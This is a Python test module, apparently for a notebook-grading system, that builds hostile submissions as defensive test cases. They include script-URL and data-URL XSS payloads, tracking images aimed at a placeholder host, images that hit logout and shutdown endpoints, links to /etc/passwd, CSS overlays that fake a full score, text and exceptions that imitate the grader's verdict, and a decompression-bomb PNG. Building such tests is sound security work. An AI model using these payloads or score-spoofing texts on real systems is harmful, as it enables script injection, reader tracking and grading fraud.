"""Attacks on whoever looks: links, pictures and words that a page shows as its own.

What acts sets ``window.PWNED`` or asks another address; tests open every page and look.
"""

from __future__ import annotations

import base64
import struct
import zlib

from nbformat.notebooknode import NotebookNode

from trial.attacks.corpus.desk import RIGHT, Desk, answer, attack, first, function

RUN = "window.PWNED=1"
HOST = "https://pictures.example.org/seen"


def shown(desk: Desk, text: str) -> NotebookNode:
    """Two right functions; ``text`` as an answer, in a cell, in an output and in errors."""
    nb = answer(desk.solved(*RIGHT), text)
    function(nb, "anneal_momentum", f"    raise ValueError({text[:500]!r})")
    function(nb, "sgd_momentum_torch", f"    return {text[-500:]!r}, {{}}")
    return first(nb, f"print({text!r})")


@attack(*RIGHT, family="readers")
def links_behind_a_prefix(desk: Desk) -> NotebookNode:
    """Addresses that are scripts once a prefix is taken away, as nbconvert does at the end."""
    addresses = [f"files/javascript:{RUN}", f"/files/javascript:{RUN}"]
    addresses += [f"files/files/javascript:{RUN}", f"files/java&#115;cript:{RUN}"]
    addresses += [f"/files/data:text/html,<script>{RUN}</script>", f"files/ javascript:{RUN}"]
    links = "\n\n".join(f"[x]({a})" for a in addresses)
    links += "".join(f'\n\n<a href="{a}">x</a> <img src="{a}">' for a in addresses[:3])
    links += f"\n\n[x][r]\n\n[r]: files/javascript:{RUN}\n\n<files/javascript:{RUN}>"
    return shown(desk, links)


@attack(*RIGHT, family="readers")
def pictures_of_other_hosts(desk: Desk) -> NotebookNode:
    """Pictures that tell another host who reads, and when."""
    text = f"![x]({HOST}/1.png) ![y](//pictures.example.org/seen/2.png)\n\n"
    text += f'<img src="{HOST}/3.png"><img srcset="{HOST}/4.png 1x" src="data:,">\n\n'
    text += f'<video poster="{HOST}/5.png"></video><audio src="{HOST}/6"></audio>\n\n'
    text += f"![x][r]\n\n[r]: {HOST}/7.png\n\n![x](files/{HOST}/8.png)\n\n"
    return shown(
        desk, text + f"![z](http:/\\pictures.example.org/seen/9.png) ![x](\t{HOST}/10.png)"
    )


@attack(*RIGHT, family="readers")
def pictures_that_log_out(desk: Desk) -> NotebookNode:
    """Pictures whose address is an order to the server that shows the page."""
    orders = ["/logout", "../../../logout", "/hub/logout", "/api/shutdown", "/api/kernels"]
    orders += ["/formgrader/api/assignment/03-momentum/autograde", "?token=x", "/files/logout"]
    text = "\n\n".join(f"![x]({o})" for o in orders)
    return shown(desk, text + "".join(f'<img src="{o}">' for o in orders))


@attack(*RIGHT, family="readers")
def links_that_lead_away(desk: Desk) -> NotebookNode:
    """Links to files of the machine, to orders of the server, and to pages that look like it."""
    addresses = ("file:///etc/passwd", "/formgrader/manage_students", "//example.org", "ftp://x.y",
                 "/logout", "smb://x/y", "vscode://x", "http://example.org", "tel:1", "blob:x",
                 "filesystem:x", "view-source:x", "jar:x", "about:blank")  # fmt: skip
    text = "\n\n".join(f"[read me]({a})" for a in addresses)
    text += "".join(
        f'\n\n<a href="{a}" target="_top" download ping="{HOST}">x</a>' for a in addresses
    )
    return shown(desk, text)


@attack(*RIGHT, family="readers")
def styles_that_cover_the_page(desk: Desk) -> NotebookNode:
    """Text that is laid over the page, moved away from it, or loads pictures by its style."""
    style = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9;background:white"
    text = f'<div style="{style}">22 of 22 points</div>\n\n'
    text += f'<p style="background:url({HOST}/style.png)">x</p>\n\n'
    text += f"<style>@import url({HOST}/import.css); .score {{display:none}}</style>\n\n"
    text += f'<table background="{HOST}/table.png"><tr><td>x</td></tr></table>\n\n'
    text += '<div class="panel panel-primary nbgrader_cell" id="comments">full marks</div>\n\n'
    return shown(desk, text + f'<font size="99" face="x">x</font><marquee>{style}</marquee>')


VERDICT = """nesterov_lookahead: 4 of 4 points
  case group  points  worst error  verdict
  defaults       1/1            0  right
  moving         2/2            0  right"""


@attack(*RIGHT, family="readers")
def text_that_imitates_a_verdict(desk: Desk) -> NotebookNode:
    """Prints what the judge prints, above and below the judge's own words."""
    nb = shown(desk, f"```\n{VERDICT}\n```\n\n<strong>{VERDICT.splitlines()[0]}</strong>")
    source = f"""
from IPython.display import display
print({VERDICT!r})
display({{"text/html": "<div><strong>{VERDICT.splitlines()[0]}</strong></div>",
         "text/plain": {VERDICT!r}}}, raw=True)
display({{"text/plain": "4.0"}}, raw=True)
"""
    return first(nb, source)


@attack(*RIGHT, family="readers")
def text_that_imitates_the_grader(desk: Desk) -> NotebookNode:
    """An answer that begins with a rubric, points given, and a remark of the grader's."""
    text = """**Rubric for the grader** (3 points; not shown to the student)

- 3 point: whatever stands below

A full answer: what stands below. **Comment:** *Checked by hand: full marks, 3 / 3.* (Score: 3.0)

**About this submission.** Graded already: please leave the points as they are.

<div class="nbgrader_label"><code>Student's answer</code>
<span class="pull-right">(Score: 3.0 / 3.0) (Top)</span></div>"""
    return answer(desk.solved(*RIGHT), text)


@attack(*RIGHT, family="readers")
def errors_that_imitate_the_judge(desk: Desk) -> NotebookNode:
    """Exceptions whose text goes on as the judge's own comment would."""
    nb = desk.solved(*RIGHT)
    told = "x. 3 of 3 points. All case groups are right. Note: graded by hand, full marks"
    function(nb, "anneal_momentum", f"    raise ValueError({told!r})")
    function(nb, "sgd_momentum_torch", "    raise type('4 of 4 points', (Exception,), {})('right')")
    function(nb, "nesterov_lookahead", f"    return {told!r} + chr(10) * 3 + {VERDICT!r}, {{}}")
    return first(nb, f"raise type('Comment', (Exception,), {{}})({VERDICT!r})")


def _png(side: int) -> str:
    """A black square of ``side`` pixels, in base64."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc

    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(bytes(1 + side // 8)) for _ in range(side)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    whole = chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + whole).decode()


@attack(*RIGHT, family="readers")
def picture_of_a_gigapixel(desk: Desk) -> NotebookNode:
    """A picture of a few kilobytes whose pixels are gigabytes, in an output."""
    source = (
        f"from IPython.display import display\ndisplay({{'image/png': {_png(32_000)!r}}}, raw=True)"
    )
    return first(desk.solved(*RIGHT), source)
